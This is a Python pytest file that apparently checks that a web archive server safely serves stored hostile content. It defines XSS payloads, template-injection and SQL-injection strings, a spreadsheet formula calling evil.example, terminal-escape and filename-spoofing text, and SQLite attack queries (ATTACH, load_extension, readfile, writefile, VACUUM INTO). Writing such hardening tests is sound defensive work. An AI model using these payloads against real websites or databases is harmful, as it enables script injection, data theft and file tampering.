"""An archive full of hostile text, served: nothing runs, nothing is loaded from elsewhere, nothing changes."""

import hashlib
import json
import re
import sqlite3
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import lxml.html
import pytest

from scraper.archive.search import register
from scraper.serving import METADATA
from tests.browsing import OpenPage
from tests.hostile.busy_archive import served
from tests.invented_history import build_archive_with_history

NASTY = (
    "<script>window.PWNED=1;document.title='PWNED'</script>",
    "\"'><img src=x onerror=\"window.PWNED=1\"><svg/onload=window.PWNED=1>",
    "</title></textarea></style></script><iframe src=https://evil.example/f></iframe>",
    "javascript:window.PWNED=1",
    "data:text/html,<script>window.PWNED=1</script>",
    "https://evil.example/\"onmouseover=\"window.PWNED=1",
    "{{7*7}} {% for x in [1] %}PWN{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE articles; -- \" OR 1=1",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"x\") \x1b[31m\x1b]0;PWNED\x07 \u202egnp.exe\u2066",
    "<math><mtext><style><img src=x onerror=window.PWNED=1></style></mtext></math>\u2028</p>-->",
    "⟦<b onclick=window.PWNED=1>⟧ <link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/>",
)  # fmt: skip
TABLES = tuple(
    name
    for name, table in json.loads(METADATA.read_text("utf8"))["databases"]["archive"]["tables"].items()
    if not table.get("hidden")
)  # fmt: skip
QUERIES = tuple(json.loads(METADATA.read_text("utf8"))["databases"]["archive"]["queries"])
NUMBERS = {"INTEGER", "REAL", ""}
FIRST = 9_000  # number of the first hostile row, after all others


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "archive.db"
    build_archive_with_history(path)
    connection = sqlite3.connect(path)
    register(connection)
    with connection:
        for table in TABLES:
            poison(connection, table)
        connection.execute("UPDATE revisions SET article = ? WHERE id >= ?", (FIRST, FIRST))
    connection.close()
    return path


def poison(connection: sqlite3.Connection, table: str) -> None:
    """Add rows to a table whose every text is hostile, or fail to be noticed."""
    columns = [row for row in connection.execute(f"PRAGMA table_xinfo({table})") if row[6] == 0]
    names = ", ".join(row[1] for row in columns)
    for number, text in enumerate(NASTY, FIRST):
        values = [number if row[2].upper() in NUMBERS else text for row in columns]
        for at, row in enumerate(columns):
            if row[1] == "url" and not text.startswith(("javascript:", "data:")):
                values[at] = f"https://evil.example/{number}?{text}"
        marks = ", ".join("?" * len(values))
        connection.execute(f"INSERT OR REPLACE INTO {table} ({names}) VALUES ({marks})", values)


@pytest.fixture(scope="module")
def address(path: Path) -> Iterator[str]:
    with served(path) as server:
        yield server.address


def pages(path: Path) -> list[str]:
    """Return the address of every kind of page, hostile in each part that a visitor can write."""
    rest = [f"/archive/{name}" for name in (*TABLES, *QUERIES)]
    rest += [
        f"/archive/{name}?{urlencode({'q': NASTY[0], 'outlet': NASTY[1]})}" for name in QUERIES
    ]
    connection = sqlite3.connect(path)
    for table in TABLES:
        keys = [row for row in connection.execute(f"PRAGMA table_xinfo({table})") if row[5]]
        names = ", ".join(row[1] for row in sorted(keys, key=lambda row: row[5]))
        (sql,) = connection.execute(
            "SELECT sql FROM sqlite_master WHERE name = ?", (table,)
        ).fetchone()
        order = names.replace(", ", " DESC, ") if "WITHOUT ROWID" in sql else "rowid"
        query = f"SELECT {names} FROM {table} ORDER BY {order} DESC LIMIT 2"
        for row in connection.execute(query):
            rest.append(f"/archive/{table}/" + ",".join(tilde(str(value)) for value in row))
    connection.close()
    for number, text in enumerate(NASTY, FIRST):
        rest += [
            f"/-/article/{number}?{urlencode({'q': text})}",
            f"/-/search?{urlencode({'q': text, 'outlet': text, 'after': text})}",
            f"/-/search?{urlencode({'outlet': text, 'language': text, 'month': text})}",
            f"/archive/articles?{urlencode({'_search': text, 'outlet': text})}",
            f"/archive/articles?{urlencode({text: text})}",
            f"/archive?{urlencode({'sql': 'select :x as y, ' + quoted(text), 'x': text})}",
            f"/archive?{urlencode({'sql': text})}",
            f"/{quote(text, safe='')}",
            f"/archive/{quote(text, safe='')}",
        ]
    facets = "&".join(f"_facet={name}" for name in ("outlet", "section", "title", "byline"))
    return [
        "/", "/archive", "/-/search", "/-/article/12", "/-/article/99999", "/-/nothing", *rest,
        f"/archive/articles?{facets}", f"/archive/articles?{facets}&_size=max&_labels=on",
        "/archive/articles?_sort=nonsense", "/archive?sql=select+1+from+nothing",
        f"/archive?{urlencode({'sql': 'select * from articles order by id desc'})}",
        f"/archive?{urlencode({'sql': 'with recursive n(x) as (select 1 union all select 1 from n) select max(x) from n'})}",
    ]  # fmt: skip


def data_pages() -> list[str]:
    nasty = urlencode({"sql": f"select {quoted(NASTY[0])} as x"})
    return [
        "/archive.json", "/archive/articles.json?_shape=array", "/archive/articles.csv?_stream=on",
        f"/archive/articles.csv?{urlencode({'_dl': 1})}", f"/archive.json?{nasty}", f"/archive.csv?{nasty}",
        f"/archive.json?{urlencode({'sql': NASTY[0]})}", f"/archive/articles.json?_shape={quote(NASTY[0])}",
        f"/archive/articles/{FIRST}.json?_shape=objects", f"/{quote(NASTY[0])}.json",
        "/-/versions.json", "/-/databases.json", "/-/static/app.css", "/-/static/nothing.css",
        "/-/static-plugins/dateline-archive/dateline.css", "/favicon.ico", "/archive/", "/:memory:",
        "/archive.db", "/-/search?q=" + "x" * 20_000, "/archive.json?sql=select+" + "1" * 20_000,
        f"/archive.blob?sql=select+x'3c'+as+x&_blob_column=x&_blob_hash={hashlib.sha256(b'<').hexdigest()}",
    ]  # fmt: skip


def tilde(text: str) -> str:
    """Encode part of a path as Datasette does."""
    return "".join(
        chr(b) if chr(b).isascii() and (chr(b).isalnum() or chr(b) in "_-") else "+" if b == 32 else f"~{b:02X}"
        for b in text.encode()
    )  # fmt: skip


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''").replace("\x1b", "").replace("\x07", "") + "'"


class Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_: Any) -> None:
        return None


def ask(url: str, data: bytes | None = None) -> tuple[int, Any, bytes]:
    """Return status, headers and body, whatever the status; redirects are not followed."""
    try:
        with urllib.request.build_opener(Stay).open(url, data, timeout=60) as answer:
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def assert_harmless(page: str, body: bytes) -> None:
    for element in lxml.html.fromstring(body).iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("iframe", "base", "math", "object", "embed"), page
        assert not [name for name in element.attrib if name.startswith("on")], page
        assert element.tag != "script" or "PWNED" not in (element.text or ""), page
        for name in ("href", "src", "action", "xlink:href"):
            link = (element.get(name) or "").strip().lower()
            assert re.match(r"(?!\w+:)|https?:|data:,", link), f"{page}: {link}"
            if re.match(r"(https?:)?//evil\.", link):
                rel = set((element.get("rel") or "").split())
                assert {"noopener", "noreferrer", "nofollow"} <= rel, f"{page}: {link}"
        assert element.tag != "img" or element.get("src").startswith("/-/attention.svg?"), page
        if element.tag == "link":
            assert element.get("rel") != "stylesheet" or "evil" not in element.get("href"), page


def test_every_answer_carries_its_headers_and_no_markup_of_strangers(
    address: str, path: Path
) -> None:
    statuses, kinds, shown = set(), set(), 0
    for page in [*pages(path), *data_pages()]:
        status, headers, body = ask(address + page)
        kind = (headers.get("Content-Type") or "").partition(";")[0]
        statuses.add(status)
        kinds.add(kind)
        policy = headers["Content-Security-Policy"]
        assert policy.startswith("default-src 'none'"), page
        assert "frame-ancestors 'none'" in policy, page
        assert not re.search(r"script-src[^;]*'unsafe", policy), page
        assert headers["X-Content-Type-Options"] == "nosniff", page
        assert headers["X-Frame-Options"] == "DENY", page
        assert headers["Referrer-Policy"] in ("same-origin", "no-referrer"), page
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin", page
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin", page
        if kind == "text/html" and body:
            assert not re.search(r"\.(json|csv|blob)(\?|$)", page), page
            assert_harmless(page, body)
            shown += b"window.PWNED=1" in body
    assert {200, 302, 400, 404, 414, 500} <= statuses
    assert shown > 50, "the hostile texts are there to be seen"
    assert {"text/html", "application/json", "text/plain", "text/css"} <= kinds


@pytest.mark.browser
def test_a_browser_runs_no_stored_script_and_asks_no_other_host(page: OpenPage, path: Path) -> None:
    opened = page()
    for place in pages(path):
        opened.goto(place)
        assert opened.evaluate("() => window.PWNED") is None, place
        assert opened.title() != "PWNED", place


ATTEMPTS = (
    "ATTACH DATABASE '{other}' AS other",
    "SELECT 1; ATTACH DATABASE '{other}' AS other",
    "WITH x AS (SELECT 1) INSERT INTO archive_info SELECT 'a', 'b' FROM x",
    "WITH x AS (SELECT 1) DELETE FROM articles",
    "WITH x AS (SELECT 1) UPDATE articles SET title = 'x'",
    "SELECT load_extension('{other}')",
    "SELECT readfile('{other}')",
    "SELECT writefile('{other}', 'x')",
    "SELECT fts3_tokenizer('simple')",
    "SELECT json_set('{{}}', '$.a', 1)",
    "SELECT * FROM pragma_user_version",
    "SELECT * FROM pragma_journal_mode('delete')",
    "EXPLAIN ATTACH DATABASE '{other}' AS other",
    "VACUUM INTO '{other}'",
    "CREATE TABLE x (y)",
    "INSERT INTO articles_fts (articles_fts) VALUES ('delete-all')",
    "PRAGMA writable_schema = 1",
)


def test_no_request_changes_a_file_or_reads_another(
    address: str, path: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other.db"
    with sqlite3.connect(other) as connection:
        connection.execute("CREATE TABLE secrets (secret TEXT)")
        connection.execute("INSERT INTO secrets VALUES ('SECRET-WORD')")
    connection.close()
    before = [(file, hashlib.sha256(file.read_bytes()).digest()) for file in (path, other)]
    for attempt in ATTEMPTS:
        sql = attempt.format(other=other)
        for page in ("/archive", "/archive.json"):
            status, _, body = ask(f"{address}{page}?{urlencode({'sql': sql})}")
            assert status == 400, sql
            assert b"SECRET-WORD" not in body
        ask(f"{address}/archive/articles.json?{urlencode({'_where': sql})}")
        ask(f"{address}/archive", urlencode({"sql": sql}).encode())
    assert before == [(file, hashlib.sha256(file.read_bytes()).digest()) for file in (path, other)]
    assert {file.name for file in path.parent.iterdir()} <= {
        "archive.db", "archive.db-wal", "archive.db-shm", "serve.log",
    }  # fmt: skip
